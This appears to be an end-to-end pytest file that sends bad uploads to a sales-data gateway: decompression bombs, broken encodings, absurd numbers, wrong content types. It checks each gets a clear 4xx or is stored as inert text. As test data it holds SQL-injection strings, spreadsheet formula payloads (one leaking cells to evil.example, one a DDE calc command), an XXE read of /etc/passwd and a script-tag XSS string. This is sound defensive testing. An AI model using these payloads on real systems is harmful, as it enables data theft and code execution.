"""Bad inputs through the gateway: each gets a clear 4xx (or is stored as harmless data) and changes nothing.

Garbage, bombs, huge lines, broken encodings and formats, absurd numbers and dates, wrong content
types; SQL and spreadsheet-formula payloads in every text field; formula-safe error reports.
"""

from __future__ import annotations

import csv
import gzip
import io
import random
import time
import uuid
import zipfile
from collections.abc import Callable
from typing import Any

import httpx
import psycopg
import pytest

from common.csvsafe import csv_line
from common.demo import generate_sales

pytestmark = pytest.mark.e2e
HEADER = b"date,store,sku,quantity,unit_price\n"
ROW = b"2024-01-02,S1,A,1,2.5\n"
MiB = 1024 * 1024
SQL_AND_FORMULAS = (
    "'; DROP TABLE sales_lines; --",
    "Robert'); DELETE FROM users; --",
    "1' OR '1'='1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "=1+2",
)


def _gzip_bomb(prefix: bytes, filler: bytes, total_bytes: int, suffix: bytes = b"") -> bytes:
    """A gzip file that inflates to `total_bytes` of `filler`: one small member repeated (RFC 1952 §2.2)."""
    member = gzip.compress(filler * (MiB // len(filler)), compresslevel=9)
    return gzip.compress(prefix) + member * (total_bytes // MiB) + (gzip.compress(suffix) if suffix else b"")


def _xlsx_lookalike() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook><sheets><sheet name='x' r:id='")
    return buffer.getvalue()


def _plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("sales.csv", (HEADER + ROW).decode())
    return buffer.getvalue()


# Built when a test needs them (some are large): name -> the bytes of the file.
BAD_FILES: dict[str, Callable[[], bytes]] = {
    "binary garbage": lambda: random.Random(7).randbytes(256 * 1024),
    "an image named .csv": lambda: b"\x89PNG\r\n\x1a\n" + random.Random(8).randbytes(4096),
    "a zip bomb: 1 GiB of zeros gzipped": lambda: _gzip_bomb(b"", b"\0", 1024 * MiB),
    "a gzip bomb of blank lines after the header": lambda: _gzip_bomb(HEADER, b"\n", 256 * MiB),
    "a 2 GiB line (gzipped)": lambda: _gzip_bomb(HEADER + b"2024-01-02,S1,A,1,", b"9", 2048 * MiB, b"\n"),
    "a 32 MiB line": lambda: HEADER + b"2024-01-02,S1,A,1," + b"7" * (32 * MiB) + b"\n",
    "a 100k-character header": lambda: b"date,store,sku,quantity," + b"x" * 100_000 + b"\n" + ROW,
    "invalid UTF-8 after the first 64 KiB": lambda: HEADER + ROW * 4000 + b"2024-01-02,S1,Caf\xe9,1,2\n",
    "damaged gzip": lambda: b"\x1f\x8b\x08\x00" + random.Random(9).randbytes(2048),
    "damaged parquet": lambda: b"PAR1" + random.Random(10).randbytes(2048),
    "an xlsx look-alike": _xlsx_lookalike,
    "a zip archive": _plain_zip,
    "an empty file": lambda: b"",
    "a header without rows": lambda: HEADER,
    "quantity 1e400": lambda: HEADER + b"2024-01-02,S1,A,1e400,2\n",
    "price 1e308": lambda: HEADER + b"2024-01-02,S1,A,1,1e308\n2024-01-03,S1,A,1e308,1e308\n",
    "quantity of 400 digits": lambda: HEADER + b"2024-01-02,S1,A," + b"9" * 400 + b",2\n",
    "NaN and infinity": lambda: HEADER + b"2024-01-02,S1,A,NaN,2\n2024-01-03,S1,A,1,inf\n",
    "a date in year 9999": lambda: HEADER + b"9999-12-31,S1,A,1,2\n",
    "a date in year 10000": lambda: HEADER + b"10000-01-01,S1,A,1,2\n",
    "a date in year 1": lambda: HEADER + b"0001-01-01,S1,A,1,2\n",
    "a 300-character sku": lambda: HEADER + b"2024-01-02,S1," + b"K" * 300 + b",1,2\n",
    "a 300-character store": lambda: HEADER + b"2024-01-02," + b"S" * 300 + b",A,1,2\n",
    "formulas as quantities": lambda: (
        HEADER
        + b"".join(b'2024-01-02,S1,A,"' + f.replace('"', '""').encode() + b'",2\n' for f in SQL_AND_FORMULAS)
    ),
}


def _account(base_url: str) -> str:
    email = f"bad-inputs-{uuid.uuid4().hex[:10]}@shop.example"
    registered = httpx.post(
        f"{base_url}/auth/register",
        json={"email": email, "password": "password-123", "name": "Bad inputs"},
        timeout=30,
    )
    assert registered.status_code == 201, registered.text
    return email


def _login(base_url: str, email: str) -> dict[str, str]:
    """Fresh bearer headers (access tokens live 15 minutes; a whole session runs longer)."""
    tokens = httpx.post(
        f"{base_url}/auth/login", json={"email": email, "password": "password-123"}, timeout=30
    ).json()
    return {"Authorization": f"Bearer {tokens['access_token']}"}


def _wait_for_job(client: httpx.Client, job_id: str, timeout_s: float = 300) -> Any:
    deadline = time.monotonic() + timeout_s
    while True:
        job = client.get(f"/jobs/{job_id}").json()
        if job["status"] in ("succeeded", "failed"):
            return job
        assert time.monotonic() < deadline, f"job {job_id} still {job['status']}: {job['stages']}"
        time.sleep(0.5)


def _headers(shop: dict[str, Any]) -> dict[str, str]:
    return _login(shop["base_url"], shop["email"])


@pytest.fixture(scope="module")
def shop(platform: Any, servers: Any) -> dict[str, Any]:
    """A retailer with sales already stored and processed: the data that bad uploads must not touch."""
    email = _account(platform.base_url)
    headers = _login(platform.base_url, email)
    sales = generate_sales(n_stores=1, n_skus=3, days=90, n_customers=40, seed=13)
    with httpx.Client(base_url=platform.base_url, headers=headers, timeout=120) as client:
        response = client.post(
            "/upload-sales", files={"file": ("sales.csv", sales.to_csv(index=False).encode(), "text/csv")}
        )
        assert response.status_code == 202, response.text
        assert _wait_for_job(client, response.json()["job_id"])["status"] == "succeeded"
        organization_id = client.get("/auth/me").json()["organization_id"]
    return {
        "email": email,
        "base_url": platform.base_url,
        "database_url": servers.database_url,
        "organization_id": organization_id,
        "rows": len(sales),
    }


def _snapshot(shop: dict[str, Any]) -> tuple[Any, ...]:
    """Everything a bad upload could have changed: stored rows, the sales history, the forecasts."""
    with psycopg.connect(shop["database_url"]) as conn:
        row = conn.execute(
            "SELECT count(*), sum(quantity), max(date) FROM sales_lines WHERE organization_id = %s",
            (shop["organization_id"],),
        ).fetchone()
        staged = conn.execute(
            "SELECT count(*) FROM staged_sales WHERE organization_id = %s", (shop["organization_id"],)
        ).fetchone()
    with httpx.Client(base_url=shop["base_url"], headers=_headers(shop), timeout=60) as client:
        series = client.get("/sales/timeseries", params={"freq": "D"}).json()
        forecast_total = client.get("/forecast").json()["total"]
    return row, staged, series, forecast_total


def _assert_clear_4xx(response: httpx.Response) -> None:
    assert 400 <= response.status_code < 500, (response.status_code, response.text[:500])
    detail = response.json()["detail"]
    assert isinstance(detail, str) and detail and "internal error" not in detail, detail


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_bad_file_gets_a_clear_4xx_and_leaves_the_data_as_it_was(shop: dict[str, Any], name: str) -> None:
    before = _snapshot(shop)
    body = BAD_FILES[name]()
    with httpx.Client(base_url=shop["base_url"], headers=_headers(shop), timeout=300) as client:
        # A dry run first: a file that validation would let through is reported without storing
        # it, so a bad row that slipped past cannot start a pipeline that disturbs other tests.
        preview = client.post(
            "/upload-sales", params={"dry_run": "true"}, files={"file": ("sales.csv", body, "text/csv")}
        )
        if preview.status_code == 200:
            assert preview.json()["rows_valid"] == 0, f"validation accepts {name}: {preview.text[:800]}"
        else:
            _assert_clear_4xx(preview)
        response = client.post("/upload-sales", files={"file": ("sales.csv", body, "text/csv")})
        _assert_clear_4xx(response)
        if "job_id" in response.json():
            # A job that the upload opened is closed as failed, with the reason.
            job = client.get(f"/jobs/{response.json()['job_id']}").json()
            assert job["status"] == "failed" and job["error"], job
        assert client.get("/health").status_code == 200
    assert _snapshot(shop) == before


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("application/json", b'{"file": "2024-01-02,S1,A,1,2"}'),
        ("text/csv", HEADER + ROW),
        ("application/x-www-form-urlencoded", b"file=" + HEADER + ROW),
        ("multipart/form-data", HEADER + ROW),  # no boundary
        ("multipart/form-data; boundary=xyz", b"--xyz\r\nContent-Disposition: form-data; name=file\r\n\r\n"),
        (
            "application/xml",
            b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
        ),
    ],
)
def test_wrong_content_type_gets_a_clear_4xx(shop: dict[str, Any], content_type: str, body: bytes) -> None:
    before = _snapshot(shop)
    with httpx.Client(base_url=shop["base_url"], timeout=60) as client:
        response = client.post(
            "/upload-sales",
            content=body,
            headers={**_headers(shop), "Content-Type": content_type},
        )
    _assert_clear_4xx(response)
    assert _snapshot(shop) == before


def test_error_report_neutralises_formulas(shop: dict[str, Any]) -> None:
    with httpx.Client(base_url=shop["base_url"], headers=_headers(shop), timeout=60) as client:
        response = client.post(
            "/upload-sales",
            files={"file": ("formulas.csv", BAD_FILES["formulas as quantities"](), "text/csv")},
        )
        _assert_clear_4xx(response)
        report = client.get(f"/jobs/{response.json()['job_id']}/errors.csv")
    assert report.status_code == 200 and report.headers["content-type"].startswith("text/csv")
    values = [row["value"] for row in csv.DictReader(io.StringIO(report.text))]
    assert values == [("'" + p if p[0] in "=+-@" else p) for p in SQL_AND_FORMULAS]


def test_every_formula_prefix_gets_an_apostrophe_in_csv_exports() -> None:
    # Uploads trim whitespace, so tab and CR can never lead a stored value: checked here on the
    # exporter itself, which every CSV export (errors, segments, purchase orders) goes through.
    line = csv_line(["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=cmd", "\r=cmd", "-5", "1e3", "plain"])
    cells = next(csv.reader(io.StringIO(line)))
    assert cells == ["'=1+2", "'+1+2", "'-1+2", "'@SUM(A1)", "'\t=cmd", "'\r=cmd", "-5", "1e3", "plain"]


def test_sql_and_formula_payloads_in_every_text_field_are_stored_as_plain_data(
    platform: Any, servers: Any
) -> None:
    sales = generate_sales(n_stores=1, n_skus=len(SQL_AND_FORMULAS), days=90, n_customers=24, seed=17)
    payload_of = dict(zip(sorted(sales["sku"].unique()), SQL_AND_FORMULAS, strict=True))
    sales["sku"] = sales["sku"].map(payload_of)
    sales["store"] = SQL_AND_FORMULAS[3]
    sales["product_name"] = sales["sku"] + " <script>alert(1)</script>"
    sales["category"] = SQL_AND_FORMULAS[6]
    customers = sorted(sales["customer_id"].unique())
    sales["customer_id"] = sales["customer_id"].map(
        {c: f"{SQL_AND_FORMULAS[i % len(SQL_AND_FORMULAS)]}#{c}" for i, c in enumerate(customers)}
    )
    sales["transaction_id"] = SQL_AND_FORMULAS[0] + sales["transaction_id"]
    headers = _login(platform.base_url, _account(platform.base_url))
    with httpx.Client(base_url=platform.base_url, headers=headers, timeout=120) as client:
        body = sales.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC).encode()
        response = client.post("/upload-sales", files={"file": ("payloads.csv", body, "text/csv")})
        assert response.status_code == 202, response.text
        job = _wait_for_job(client, response.json()["job_id"])
        assert job["status"] == "succeeded", job["stages"]
        assert job["rows_new"] == len(sales)
        # The payloads come back verbatim as names, and work as filters like any other name.
        forecast = client.get("/forecast", params={"limit": 100}).json()
        assert sorted(item["sku"] for item in forecast["items"]) == sorted(SQL_AND_FORMULAS)
        assert {item["store"] for item in forecast["items"]} == {SQL_AND_FORMULAS[3]}
        one = client.get(
            "/forecast", params={"store": SQL_AND_FORMULAS[3], "sku": SQL_AND_FORMULAS[0]}
        ).json()
        assert one["total"] == 1 and one["items"][0]["sku"] == SQL_AND_FORMULAS[0]
        export = client.get("/customer-segments/export.csv")
    assert export.status_code == 200
    exported = list(csv.DictReader(io.StringIO(export.text)))
    assert len(exported) == sales.loc[sales["quantity"] > 0, "customer_id"].nunique()
    for row in exported:
        assert all(not value or value[0] not in "=+@\t\r" for value in row.values()), row
        if row["customer_id"].lstrip("'")[0] in "=+-@":
            assert row["customer_id"].startswith("'"), row
    with psycopg.connect(servers.database_url) as conn:
        # The tables the payloads name are still there, and hold what they held.
        assert conn.execute("SELECT count(*) FROM users").fetchone() is not None
        stored = conn.execute(
            "SELECT count(*) FROM sales_lines WHERE store = %s", (SQL_AND_FORMULAS[3],)
        ).fetchone()
    assert stored is not None and stored[0] == len(sales)


def test_mixed_encodings_are_stored_as_harmless_text(platform: Any, servers: Any) -> None:
    # One Latin-1 line and one UTF-8 line in the same file: read as Windows-1252, nothing lost or run.
    body = HEADER + "2024-01-02,S1,Caf\xe9,1,2\n".encode("latin-1") + "2024-01-03,S1,Café,1,2\n".encode()
    headers = _login(platform.base_url, _account(platform.base_url))
    with httpx.Client(base_url=platform.base_url, headers=headers, timeout=120) as client:
        response = client.post("/upload-sales", files={"file": ("mixed.csv", body, "text/csv")})
        assert response.status_code == 202, response.text
        _wait_for_job(client, response.json()["job_id"])
        organization_id = client.get("/auth/me").json()["organization_id"]
    with psycopg.connect(servers.database_url) as conn:
        skus = {
            sku
            for (sku,) in conn.execute(
                "SELECT sku FROM sales_lines WHERE organization_id = %s", (organization_id,)
            ).fetchall()
        }
    assert skus == {"Café", "CafÃ©"}  # the UTF-8 line's bytes are kept, read as Windows-1252


def test_a_gzip_member_of_valid_rows_is_parsed_as_data(shop: dict[str, Any]) -> None:
    # Control for the bombs above: a small gzipped file is read fine (dry run: nothing stored).
    body = gzip.compress(HEADER + ROW * 10)
    before = _snapshot(shop)
    with httpx.Client(base_url=shop["base_url"], headers=_headers(shop), timeout=60) as client:
        preview = client.post(
            "/upload-sales", params={"dry_run": "true"}, files={"file": ("s.csv.gz", body, "text/csv")}
        )
    assert preview.status_code == 200 and preview.json()["rows_valid"] == 10, preview.text
    assert _snapshot(shop) == before


def test_a_good_upload_is_still_taken_after_the_bad_ones(shop: dict[str, Any]) -> None:
    with httpx.Client(base_url=shop["base_url"], headers=_headers(shop), timeout=60) as client:
        preview = client.post(
            "/upload-sales", params={"dry_run": "true"}, files={"file": ("ok.csv", HEADER + ROW, "text/csv")}
        )
    assert preview.status_code == 200 and preview.json()["rows_valid"] == 1, preview.text
